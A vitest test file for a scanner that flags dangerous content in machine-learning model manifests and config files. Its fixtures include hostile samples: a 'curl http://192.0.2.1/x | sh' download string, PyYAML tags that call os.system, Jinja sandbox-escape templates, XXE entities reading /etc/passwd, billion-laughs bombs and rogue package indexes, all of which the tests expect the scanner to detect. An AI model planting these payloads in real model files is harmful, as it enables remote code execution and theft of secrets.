import { describe, expect, it } from 'vitest';
import { analyse } from '../support.js';
import { CHAT_TEMPLATES } from '../jinja/chat-templates.js';

const TAG_EXEC = 'STATIC-MANIFEST-PYTHON-TAG-EXEC';

/** Files as the libraries write them, of no model in particular. */
const HARMLESS: Readonly<Record<string, string>> = {
  'config.json': JSON.stringify({
    _name_or_path: '../models/base-7b',
    architectures: ['LlamaForCausalLM'],
    attention_bias: false,
    bos_token_id: 128000,
    hidden_act: 'silu',
    id2label: { 0: 'NEGATIVE', 1: 'POSITIVE' },
    rope_scaling: { factor: 8.0, rope_type: 'llama3' },
    torch_dtype: 'bfloat16',
    transformers_version: '4.45.0',
    task_specific_params: { 'text-generation': { do_sample: true, max_length: 50 } },
    vocab_size: 128256,
  }),
  'generation_config.json': JSON.stringify({ _from_model_config: true, eos_token_id: [1, 2], temperature: 0.6 }),
  'tokenizer_config.json': JSON.stringify({
    added_tokens_decoder: { 0: { content: '<script>', special: true }, 1: { content: 'os.system(x)' } },
    bos_token: '<s>',
    eos_token: '</s>',
    pad_token: '<pad>',
    chat_template: Object.values(CHAT_TEMPLATES)[0],
    tokenizer_class: 'PreTrainedTokenizerFast',
    sep_token: '[SEP]',
  }),
  'tokenizer.json': JSON.stringify({
    version: '1.0',
    added_tokens: [{ id: 0, content: '{{', special: true }],
    model: {
      type: 'BPE',
      vocab: { 'eval(': 1, '{%': 2, "__import__('os')": 3 },
      merges: ['{ {', 'os . system', ['a', 'b']],
    },
    post_processor: { type: 'TemplateProcessing', single: [{ SpecialToken: { id: '<s>', type_id: 0 } }] },
  }),
  'vocab.json': JSON.stringify({ password: 1, token: 2, 'rm -rf /': 3 }),
  'adapter_config.json': JSON.stringify({
    base_model_name_or_path: '/home/user/models/base',
    peft_type: 'LORA',
    target_modules: ['q_proj', 'v_proj'],
    task_type: 'CAUSAL_LM',
    revision: null,
  }),
  'model_index.json': JSON.stringify({
    _class_name: 'StableDiffusionPipeline',
    _diffusers_version: '0.29.0',
    safety_checker: [null, null],
    scheduler: ['diffusers', 'DDIMScheduler'],
    unet: ['diffusers', 'UNet2DConditionModel'],
  }),
  'modules.json': JSON.stringify([
    { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
    { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
  ]),
  'model.safetensors.index.json': JSON.stringify({
    metadata: { total_size: 1 },
    weight_map: { 'lm_head.weight': 'model-00001-of-00002.safetensors' },
  }),
  'preprocessor_config.json': JSON.stringify({ image_mean: [0.5], image_processor_type: 'CLIPImageProcessor' }),
  'pyproject.toml': `[build-system]
requires = ["setuptools>=61.0"]
build-backend = "setuptools.build_meta"
[project]
name = "model"
dependencies = ["torch>=2.0", "transformers[torch]~=4.40 ; python_version > '3.8'"]
[project.urls]
Homepage = "https://example.org/model"
[project.scripts]
train = "model.train:main"
`,
  'environment.yml': `name: model
channels: [conda-forge, pytorch]
dependencies:
  - python=3.11
  - pytorch>=2.0
  - pip:
      - transformers==4.45.0
      - --extra-index-url https://download.pytorch.org/whl/cu121
`,
  'config.yaml': `# hydra
defaults: [_self_]
model: &model
  _target_: torch.nn.Linear
  in_features: 3
optimizer: {_target_: torch.optim.AdamW, lr: 1.0e-4}
other: *model
url: https://example.org/a
`,
  'requirements.txt': `# needed
--extra-index-url https://download.pytorch.org/whl/cpu
torch==2.4.0
transformers>=4.40,<5  # soon 5
-e .
numpy; python_version < "3.12"
`,
  'logging.ini': `[loggers]
keys=root
[handler_console]
class=StreamHandler
args=(sys.stdout,)
[formatter_a]
format=%(asctime)s %(message)s
`,
  'setup.cfg': '[metadata]\nname = model\n[options]\ninstall_requires =\n    torch\n    numpy\n',
  'adapter.json': JSON.stringify({
    _name_or_path: '/root/.cache/huggingface/hub/models--a--b',
    base_model_name_or_path: '/root/.cache/x',
  }),
  'feature_names.json': JSON.stringify({ features: ['/etc/passwd', '~/.ssh/id_rsa', 'os.system("x")', '<script>'] }),
  'notes.json': JSON.stringify({
    description: 'To train it anew, call subprocess.run(["python", "train.py"]) or os.system("make")',
    stack_trace: 'File "a.py", line 1, in b\n    subprocess.run(cmd)',
    wiki: '{{cite|a=[[b]]}} {{ [x]|attr }} {% include',
    name: '<script>alert(1)</script>',
    endpoint: 'http://198.51.100.7:8080/x',
    trust_remote_code: true,
    data: { path: '../datasets/coco' },
  }),
  'hparams.yaml': `a: !!python/object/apply:pathlib.PosixPath
- /
- data
b: !!python/object:argparse.Namespace
  lr: 0.1
c: !!python/name:torch.nn.modules.activation.ReLU ''
d: !!python/object/apply:collections.OrderedDict
- - - a
    - 1
e: !!python/object/apply:torch.device
- cpu
f: !!python/object:mymodel.Config {}
`,
  'requirements-more.txt': 'x @ git+https://example.org/x.git@3f2a\nhttps://example.org/x-1.0-py3-none-any.whl\n',
  'openvino.xml':
    '<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" type="Parameter"/></layers></net>',
};

describe('usual files give nothing over info', () => {
  it.each(Object.entries(HARMLESS))('%s', async (name, content) => {
    const { loud, gaps } = await analyse(content, name);
    expect(loud).toEqual([]);
    expect(gaps).toEqual([]);
  });
});

const token = `hf_${'abcdefghijklmnopqrSTUVWXYZabcdEFgh'.slice(0, 34)}`.replace('abcdefgh', 'zyxwvuts');

describe('what a loader acts on weighs as much as before', () => {
  it.each([
    ['c.json', '{"vocab_file": "/etc/passwd"}', 'STATIC-MANIFEST-SENSITIVE-PATH'],
    ['c.json', '{"checkpoint_path": "/root/.ssh/id_rsa"}', 'STATIC-MANIFEST-SENSITIVE-PATH'],
    ['c.json', '{"init": "__import__(\'os\').system(\'id\')"}', 'STATIC-MANIFEST-CODE'],
    ['c.json', '{"names": "lambda x: os.system(\'id\')"}', 'STATIC-MANIFEST-CODE'],
    ['hparams.yaml', 'a: !!python/object/apply:os.system [id]', 'STATIC-MANIFEST-PYTHON-TAG-EXEC'],
    ['hparams.yaml', 'a: !!python/name:os.system', 'STATIC-MANIFEST-PYTHON-TAG-EXEC'],
    ['hparams.yaml', 'a: !!python/object/apply:mymodel.build [id]', 'STATIC-MANIFEST-PYTHON-TAG'],
    ['x.yaml', 'prompt: "{{ x|attr(y) }}"', 'STATIC-JINJA-COMPUTED'],
    ['x.yaml', 'title: "{{ x.__class__.__mro__ }}"', 'STATIC-JINJA-PYTHON'],
    ['requirements.txt', '-ihttps://packages.example.net/simple\ntorch', 'STATIC-MANIFEST-INDEX'],
    ['requirements.txt', '-fhttps://packages.example.net/x\ntorch', 'STATIC-MANIFEST-INDEX'],
    ['requirements.txt', '-rhttps://packages.example.net/r.txt', 'STATIC-MANIFEST-INDEX'],
    ...[
      '--extra-index-urlhttps://packages.example.net/simple',
      '--index-urlhttp://203.0.113.1/',
      '--find-linkshttps://packages.example.net/x',
      '--extra-i=https://packages.example.net/simple',
      '--pypi-url https://packages.example.net/simple',
      '--trusted-hostpackages.example.net',
      '-i"https://packages.example.net/simple"',
      '-i\\\nhttps://packages.example.net/simple',
      '--index-url \\\n  https://packages.example.net/simple',
      '--pre -ihttps://packages.example.net/simple',
      'torch --extra-index-urlhttps://packages.example.net/simple',
      '--requirementhttps://packages.example.net/r.txt',
    ].map((line) => ['requirements.txt', `numpy\n${line}`, 'STATIC-MANIFEST-INDEX'] as [string, string, string]),
  ])('%s: %s', async (name, content, rule) => {
    const { loud } = await analyse(content, name);
    expect(loud.map(({ rule }) => rule)).toContain(rule);
  });
});

describe('a manifest that does harm is told, and where', () => {
  it.each([
    ['a token', 'config.json', `{"a": "${token}"}`, 'STATIC-SECRET-KEY'],
    ['a field with a password', 'config.json', '{"db_password": "hunter22!x"}', 'STATIC-SECRET-NAMED'],
    [
      'code of the model',
      'config.json',
      '{"auto_map": {"AutoModel": "modeling_x.XModel"}}',
      'STATIC-MANIFEST-REMOTE-CODE',
    ],
    [
      "another repository's code",
      'config.json',
      '{"auto_map": {"AutoModel": "a/b--modeling_x.X"}}',
      'STATIC-MANIFEST-OTHER-CODE',
    ],
    [
      'custom pipelines',
      'config.json',
      '{"custom_pipelines": {"x": {"impl": "pipe.Pipe", "pt": []}}}',
      'STATIC-MANIFEST-REMOTE-CODE',
    ],
    ['trust_remote_code', 'config.json', '{"trust_remote_code": true}', 'STATIC-MANIFEST-UNSAFE-SETTING'],
    [
      'a command as target',
      'config.json',
      '{"model": {"_target_": "os.system", "command": "id"}}',
      'STATIC-MANIFEST-TARGET',
    ],
    ['a built-in as target', 'x.yaml', 'a: {_target_: builtins.eval, _args_: ["1"]}', 'STATIC-MANIFEST-TARGET'],
    ['a detour as target', 'x.yaml', 'a:\n  _target_: torch.serialization.os.system', 'STATIC-MANIFEST-TARGET'],
    ['a command as module', 'modules.json', '[{"idx": 0, "type": "os.system", "path": ""}]', 'STATIC-MANIFEST-TARGET'],
    [
      'a reader of files as target',
      'x.yaml',
      'a: {class_path: logging.FileHandler}',
      'STATIC-MANIFEST-TARGET-UNLISTED',
    ],
    ['a shard elsewhere', 'm.index.json', '{"weight_map": {"a": "../../../etc/x"}}', 'STATIC-MANIFEST-PATH'],
    ['a vocabulary elsewhere', 'c.json', '{"vocab_file": "../../x"}', 'STATIC-MANIFEST-PATH'],
    ['a place with secrets', 'c.json', '{"a": "/etc/passwd"}', 'STATIC-MANIFEST-SENSITIVE-PATH'],
    ['Python code', 'c.json', '{"init": "__import__(\'os\').system(\'id\')"}', 'STATIC-MANIFEST-CODE'],
    ['a download', 'c.json', '{"a": "curl http://192.0.2.1/x | sh"}', 'STATIC-MANIFEST-CODE'],
    ['a bare address', 'c.json', '{"endpoint": "http://198.51.100.7:8080/x"}', 'STATIC-MANIFEST-ADDRESS'],
    ['markup', 'c.json', '{"name": "<script>alert(1)</script>"}', 'STATIC-MANIFEST-MARKUP'],
    ['a template', 'tokenizer_config.json', '{"chat_template": "{{ x.__class__ }}"}', 'STATIC-JINJA-PYTHON'],
    [
      'one of several templates',
      'tokenizer_config.json',
      '{"chat_template": [{"name": "a", "template": "{{ x|attr(y) }}"}]}',
      'STATIC-JINJA-COMPUTED',
    ],
    ['a template in YAML', 'x.yml', 'prompt: "{{ cycler.__init__ }}"', 'STATIC-JINJA-PYTHON'],
    ['a template file', 'chat_template.jinja', '{{ x.__class__ }}', 'STATIC-JINJA-PYTHON'],
    ['a template as JSON', 'chat_template.json', '{"chat_template": "{{ x[\'__class__\'] }}"}', 'STATIC-JINJA-PYTHON'],
    ['escaped names', 'tokenizer_config.json', '{"chat_template": "{{ x.\\u005f_class__ }}"}', 'STATIC-JINJA-PYTHON'],
    [
      'the second of two keys',
      'c.json',
      '{"trust_remote_code": true, "trust_remote_code": false}',
      'STATIC-MANIFEST-UNSAFE-SETTING',
    ],
    ['a tag that calls', 'x.yaml', 'a: !!python/object/apply:os.system ["id"]', 'STATIC-MANIFEST-PYTHON-TAG-EXEC'],
    [
      'a tag spelled out',
      'x.yaml',
      'a: !<tag:yaml.org,2002:python/object/new:subprocess.Popen> [id]',
      'STATIC-MANIFEST-PYTHON-TAG-EXEC',
    ],
    [
      'a tag by another handle',
      'x.yaml',
      '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ["id"]',
      'STATIC-MANIFEST-PYTHON-TAG-EXEC',
    ],
    ['a tag on a key', 'x.yaml', '? !!python/name:os.system\n: 1', 'STATIC-MANIFEST-PYTHON-TAG-EXEC'],
    ['a tag that makes', 'x.yaml', 'a: !!python/object:mymodel.Config {}', 'STATIC-MANIFEST-PYTHON-TAG'],
    ...[
      ['many values', '- a\n'.repeat(200_000)],
      ['many brackets', `a: ${'['.repeat(300)}\n`],
      ['a bracket too many', 'a: ]\n'],
    ].flatMap(([what = '', filler = '']): [string, string, string, string][] => [
      [`a tag behind ${what}`, 'x.yaml', `${filler}b: !!python/object/apply:os.system [id]`, TAG_EXEC],
      [`a verbatim tag behind ${what}`, 'x.yaml', `${filler}b: !<tag:yaml.org,2002:python/name:os.system>`, TAG_EXEC],
      [
        `a short tag behind ${what}`,
        'x.yaml',
        `%TAG !p! tag:yaml.org,2002:python/\n---\n${filler}b: !p!name:os.system`,
        TAG_EXEC,
      ],
      [`a template behind ${what}`, 'x.yaml', `${filler}b: "{{ x.__class__.__mro__ }}"`, 'STATIC-JINJA-PYTHON'],
    ]),
    ['aliases of aliases', 'x.yaml', bomb(), 'STATIC-MANIFEST-BOMB'],
    [
      'an external entity',
      'x.xml',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      'STATIC-MANIFEST-ENTITY',
    ],
    [
      'an external parameter entity',
      'x.xml',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><a/>',
      'STATIC-MANIFEST-ENTITY',
    ],
    [
      'a definition elsewhere',
      'x.xml',
      '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://192.0.2.1/x.dtd"><a/>',
      'STATIC-MANIFEST-ENTITY',
    ],
    [
      'an inclusion',
      'x.xml',
      '<?xml version="1.0"?><a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/hosts"/></a>',
      'STATIC-MANIFEST-ENTITY',
    ],
    ['laughs', 'x.xml', laughs(), 'STATIC-MANIFEST-BOMB'],
    [
      'a field that is evaluated',
      'l.ini',
      "[handler_a]\nargs=(__import__('os').system('id'),)",
      'STATIC-MANIFEST-EVALUATED',
    ],
    ['values that grow', 'l.ini', grows(), 'STATIC-MANIFEST-BOMB'],
    [
      'an index',
      'requirements.txt',
      '--extra-index-url https://packages.example.net/simple\ntorch',
      'STATIC-MANIFEST-INDEX',
    ],
    [
      'an index without encryption',
      'requirements.txt',
      '-i http://198.51.100.7/simple\ntorch',
      'STATIC-MANIFEST-INDEX',
    ],
    ['a repository', 'requirements-dev.txt', 'x @ git+https://example.org/x.git', 'STATIC-MANIFEST-SOURCE'],
    ['an address', 'requirements.txt', 'https://example.org/x-1.0-py3-none-any.whl', 'STATIC-MANIFEST-SOURCE'],
    [
      'a package in an environment',
      'environment.yml',
      'dependencies:\n  - pip:\n    - git+http://example.org/x',
      'STATIC-MANIFEST-INDEX',
    ],
    [
      'a package in a project',
      'pyproject.toml',
      '[project]\ndependencies = ["x @ https://example.org/x.whl"]',
      'STATIC-MANIFEST-SOURCE',
    ],
    ['a secret in TOML', 'x.toml', '[a]\napi_key = "q7Zt81-lmPw"', 'STATIC-SECRET-NAMED'],
    ['wide characters', 'config.json', '\ufeff{"trust_remote_code": true}', 'STATIC-MANIFEST-UNSAFE-SETTING'],
  ])('%s', async (_, name, content, rule) => {
    const { rules } = await analyse(content, name);
    expect(rules).toContain(rule);
  });

  it('gives the byte where the value stands, after characters of several bytes', async () => {
    const text = '{"é": "ü", "model": {"_target_": "os.system"}}';
    const { findings } = await analyse(text, 'config.json');
    const [finding] = findings.filter(({ rule }) => rule === 'STATIC-MANIFEST-TARGET');
    expect(finding).toMatchObject({
      severity: 'critical',
      evidence: [{ text: 'os.system', offset: Buffer.from(text).indexOf('"os.system"') }],
    });
    expect(finding?.explanation).toContain('model._target_ names os.system');
  });

  it('reads UTF-16 as Python does', async () => {
    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('{"trust_remote_code": true}', 'utf16le')]);
    expect((await analyse(wide, 'config.json')).rules).toEqual(['STATIC-MANIFEST-UNSAFE-SETTING']);
  });

  it('never shows a secret whole', async () => {
    const { findings } = await analyse(`{"a": "${token}"}`, 'config.json');
    expect(JSON.stringify(findings)).not.toContain(token);
  });
});

describe('hostile documents', () => {
  it.each([
    ['JSON nested without end', 'a.json', '['.repeat(500_000)],
    ['JSON with long numbers', 'a.json', `[${'1'.repeat(500_000)}]`],
    ['JSON with a text that has no end', 'a.json', `{"a": "${'x'.repeat(500_000)}`],
    ['YAML nested without end', 'a.yaml', '['.repeat(20_000)],
    ['YAML of dashes', 'a.yaml', '- '.repeat(20_000)],
    ['YAML of anchors', 'a.yaml', '&a '.repeat(20_000)],
    ['TOML nested without end', 'a.toml', `a = ${'['.repeat(20_000)}`],
    ['XML nested without end', 'a.xml', `<?xml version="1.0"?>${'<a>'.repeat(100_000)}`],
    ['XML cut off', 'a.xml', '<?xml version="1.0"?><a b="'],
  ])('%s: a gap, and soon', async (_, name, content) => {
    const { gaps } = await analyse(content, name);
    if (!name.endsWith('.json') || !content.startsWith('[1')) expect(gaps).not.toEqual([]);
  });
});

function bomb(): string {
  const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
  for (let index = 1; index < 9; index += 1)
    lines.push(`a${index}: &a${index} [${Array.from({ length: 10 }, () => `*a${index - 1}`).join(', ')}]`);
  return lines.join('\n');
}

function laughs(): string {
  const entities = ['<!ENTITY a0 "lol">'];
  for (let index = 1; index < 10; index += 1) entities.push(`<!ENTITY a${index} "${`&a${index - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE a [${entities.join('')}]><a>&a9;</a>`;
}

function grows(): string {
  const lines = ['[a]', 'a0 = 0123456789'];
  for (let index = 1; index < 9; index += 1) lines.push(`a${index} = ${`%(a${index - 1})s`.repeat(10)}`);
  return lines.join('\n');
}
